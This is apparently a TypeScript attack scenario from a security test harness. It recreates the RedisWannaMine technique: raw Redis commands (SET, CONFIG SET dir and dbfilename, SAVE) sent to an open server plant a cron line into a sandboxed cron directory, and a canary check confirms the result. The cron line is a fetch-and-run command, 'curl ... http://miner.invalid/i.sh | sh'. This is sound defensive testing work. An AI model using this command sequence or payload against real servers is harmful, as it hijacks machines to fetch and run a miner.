import { readdir, readFile } from 'node:fs/promises';

import type { Attack } from '../attack.ts';
import type { Grounds } from '../grounds/grounds.ts';
import { fromOutside, ofServer } from './at-server.ts';
import { encode, send, stopOf } from './raw.ts';

const line = '\n\n* * * * * root curl -s http://miner.invalid/i.sh | sh # rampart-canary\n\n';

/** Runs nowhere: the directory belongs to the grounds, and no cron reads it. */
export const cronLine: Attack<Grounds> = {
  name: 'cron-line-from-outside',
  title: 'A stranger plants a miner’s cron line through an open Redis',
  story:
    'In 2018 RedisWannaMine looked for servers that answered without a password, wrote a line for cron into a key, ' +
    'and had the server save its data where cron reads. Each machine then mined for strangers and looked for others.',
  sources: ['https://inteccybersecurity.com/2018/06/el-75-de-los-usuarios-de-redis-fueron.html'],
  door: 'server',
  harms: ['integrity', 'availability'],
  goal: 'a file in the directory that stands for /etc/cron.d holds the miner’s line',
  crosses: ['server'],
  ways: [
    {
      name: 'CONFIG SET dir, then SAVE, from a stranger’s address',
      attempt: async ({ store }) => {
        const heard = await send(
          fromOutside(store),
          [
            encode('SET', 'x', line),
            encode('CONFIG', 'SET', 'dir', store.foreign.cron),
            encode('CONFIG', 'SET', 'dbfilename', 'root'),
            encode('SAVE'),
          ].join(''),
        );
        return stopOf(heard, ...ofServer, [/Permission denied|-ERR$/m, 'server.os']);
      },
    },
  ],
  reached: async ({ store }) => {
    for (const name of await readdir(store.foreign.cron)) {
      const content = await readFile(`${store.foreign.cron}/${name}`, 'latin1');
      if (content.includes('rampart-canary')) return { kind: 'reached', seen: `${name} holds it` };
    }
    return { kind: 'missed' };
  },
};
